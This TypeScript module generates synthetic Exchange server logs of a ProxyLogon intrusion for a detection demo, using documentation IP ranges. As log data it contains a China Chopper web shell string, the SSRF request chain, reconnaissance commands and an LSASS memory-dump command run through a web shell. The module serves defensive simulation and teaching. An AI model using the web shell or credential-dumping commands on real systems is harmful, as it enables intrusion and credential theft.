// The ProxyLogon intrusion of the demo collection, modelled on HelseCERT's 2021-03-11 incident
// write-up (same request sequence, status codes, user agents and ECP cmdlets) and on Microsoft's
// and Volexity's descriptions of HAFNIUM post-exploitation. Addresses are documentation ranges
// (RFC 5737), not real attackers.
import { ecpEventData, ecpServerLine } from './formats.js';
import { Rng } from './rng.js';
import type { Org, Protocol, Req } from './traffic.js';

export type Sink = 'iis' | 'httpproxy' | 'ecp' | 'oab' | 'rps-http' | 'rps-cmdlet';

/** A line for one log (or a request, written to IIS and HttpProxy alike). */
export type Item = { time: number; sink: Exclude<Sink, 'iis' | 'httpproxy'>; line: string } | { time: number; req: Req };

export const ATTACKER_EXPLOIT_IP = '203.0.113.45';
export const ATTACKER_SHELL_IP = '198.51.100.77';
export const SCANNER_IPS = ['192.0.2.10', '192.0.2.66', '192.0.2.99'];

const T = (iso: string) => Date.parse(iso);
const CHOPPER = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>`;

function ssrf(rng: Rng, org: Org, time: number, path: string, status: number, ua: string): Req {
  return {
    time,
    protocol: 'Ecp',
    method: 'POST',
    stem: '/ecp/y.js',
    query: '',
    user: '',
    clientIp: ATTACKER_EXPLOIT_IP,
    userAgent: ua,
    status,
    requestId: rng.guid(),
    anchorMailbox: `ServerInfo~a]@${org.serverFqdn}:444${path}#`,
    routingHint: 'X-BEResource-Cookie',
    routingType: 'CrossRegion',
    authType: '',
    targetServer: `a]@${org.serverFqdn}:444`,
    timeTaken: 200 + rng.int(800),
  };
}

function shellReq(rng: Rng, time: number, stem: string, method: string, status: number, query = '', protocol: Protocol | undefined = 'Owa'): Req {
  return {
    time,
    protocol,
    method,
    stem,
    query,
    user: '',
    clientIp: ATTACKER_SHELL_IP,
    userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.182 Safari/537.36',
    status,
    requestId: rng.guid(),
    timeTaken: 60 + rng.int(300),
  };
}

/** Every record of the intrusion, plus the scanners that came before and after it. */
export function proxyLogonIntrusion(rng: Rng, org: Org): Item[] {
  const items: Item[] = [];
  const push = (r: Req) => items.push({ time: r.time, req: r });
  const ecp = (time: number, cmd: string, canary: string, ex = '') =>
    items.push({ time, sink: 'ecp', line: ecpServerLine(time, org.server, ecpEventData({ cmd, url: `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory`, ex })) });

  // 2 March: a scanner reads the build number; another sends the nmap ProxyLogon probe.
  push({ time: T('2021-03-02T09:14:07.311Z'), protocol: 'Ecp', method: 'GET', stem: '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application', query: '', user: '', clientIp: SCANNER_IPS[0]!, userAgent: 'Mozilla/5.0 zgrab/0.x', status: 200, requestId: rng.guid(), anchorMailbox: 'ServerVersion~Version 15.0 (Build 0.0)', routingHint: 'EDiscoveryExportTool-ServerVersion', timeTaken: 4 });
  push({ time: T('2021-03-02T21:40:55.102Z'), protocol: 'Owa', method: 'GET', stem: '/owa/auth/x.js', query: '', user: '', clientIp: SCANNER_IPS[1]!, userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.81 Safari/537.36', status: 500, backendStatus: 500, requestId: rng.guid(), anchorMailbox: 'ServerInfo~localhost/ecp/default.flt?', routingHint: 'X-AnonResource-Backend-Cookie', routingType: 'CrossRegion', targetServer: 'localhost', timeTaken: 382 });

  // 3 March 06:49: the ProxyLogon chain (CVE-2021-26855 → CVE-2021-27065).
  const esc = 'ExchangeServicesClient/0.0.0.0';
  const py = 'python-requests/2.25.1';
  const canary = `M1xS${rng.hex(20)}`;
  push(ssrf(rng, org, T('2021-03-03T06:49:42.162Z'), '/autodiscover/autodiscover.xml?', 200, esc));
  push(ssrf(rng, org, T('2021-03-03T06:49:43.699Z'), '/mapi/emsmdb/?', 200, py));
  push(ssrf(rng, org, T('2021-03-03T06:49:46.210Z'), '/ecp/proxyLogon.ecp?', 241, py));
  push(ssrf(rng, org, T('2021-03-03T06:49:51.543Z'), `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory`, 200, py));
  ecp(T('2021-03-03T06:49:51.389Z'), 'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null', canary);
  const oabId = rng.guid();
  ecp(T('2021-03-03T06:49:53.772Z'), `Set-OabVirtualDirectory.ExternalUrl='${CHOPPER}'.Identity='${oabId}'`, canary);
  push(ssrf(rng, org, T('2021-03-03T06:49:53.801Z'), `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory`, 200, py));
  push(ssrf(rng, org, T('2021-03-03T06:49:58.270Z'), `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=ResetOABVirtualDirectory`, 200, py));
  ecp(T('2021-03-03T06:49:58.835Z'), `Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${oabId}'`, canary);
  push(ssrf(rng, org, T('2021-03-03T06:50:00.717Z'), `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&schema=OABVirtualDirectory`, 200, py));

  // 4 March: mailboxes read through the same SSRF, straight to EWS.
  for (let i = 0; i < 4; i++) {
    push(ssrf(rng, org, T('2021-03-04T02:11:05.000Z') + i * 47_000, '/EWS/Exchange.asmx?', 200, py));
  }

  // 5–8 March: the web shell written by the reset is used, drops a second one in aspnet_client
  // and runs commands through it, including an LSASS memory dump that is then downloaded.
  const shell = '/owa/auth/RedirSuiteServerProxy.aspx';
  push(shellReq(rng, T('2021-03-05T03:06:27.696Z'), shell, 'GET', 200));
  push(shellReq(rng, T('2021-03-05T03:07:02.114Z'), shell, 'POST', 200));
  push(shellReq(rng, T('2021-03-05T03:07:40.532Z'), shell, 'POST', 200));
  const second = '/aspnet_client/system_web/log.aspx';
  const cmds = ['cmd /c whoami', 'cmd /c ipconfig /all', 'cmd /c net group "domain admins" /domain', 'cmd /c tasklist /svc', 'cmd /c rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 620 C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp full'];
  cmds.forEach((c, i) => push(shellReq(rng, T('2021-03-06T17:27:45.000Z') + i * 31_000, second, 'GET', 200, `cmd=${encodeURIComponent(c).replace(/%20/g, '+')}`, undefined)));
  push(shellReq(rng, T('2021-03-06T17:31:12.000Z'), '/aspnet_client/lsass.dmp.zip', 'GET', 200, '', undefined));
  push(shellReq(rng, T('2021-03-08T20:37:27.400Z'), shell, 'POST', 200));

  // 7 March: someone else looks for web shells that do not exist here.
  for (const p of ['/aspnet_client/shell.aspx', '/owa/auth/errorEE.aspx', '/aspnet_client/discover.aspx']) {
    push({ ...shellReq(rng, T('2021-03-07T11:02:13.000Z') + p.length * 1000, p, 'GET', 404, '', undefined), clientIp: SCANNER_IPS[2]!, userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' });
  }
  // Requests of both attackers that no rule flags on its own — a look at the logon page before the
  // exploit, the OWA start page before the web shell — for the pivot to find (own random source, so
  // the records above keep their values).
  const quiet = new Rng(DEMO_QUIET_SEED);
  const look = (time: number, ip: string, userAgent: string, stem: string, query: string, status: number): Req => ({ ...shellReq(quiet, time, stem, 'GET', status, query), clientIp: ip, userAgent });
  push(look(T('2021-03-03T06:41:12.000Z'), ATTACKER_EXPLOIT_IP, py, '/owa/auth/logon.aspx', 'url=https%3a%2f%2fmail%2fowa%2f&reason=0', 200));
  push(look(T('2021-03-03T06:41:13.000Z'), ATTACKER_EXPLOIT_IP, py, '/ecp/', '', 302));
  push(look(T('2021-03-05T03:05:58.000Z'), ATTACKER_SHELL_IP, shellReq(quiet, 0, '', '', 0).userAgent, '/owa/', '', 302));
  push(look(T('2021-03-05T03:05:59.000Z'), ATTACKER_SHELL_IP, shellReq(quiet, 0, '', '', 0).userAgent, '/owa/auth/logon.aspx', 'url=https%3a%2f%2fmail%2fowa%2f&reason=0', 200));
  return items.sort((a, b) => a.time - b.time);
}

const DEMO_QUIET_SEED = 4545;
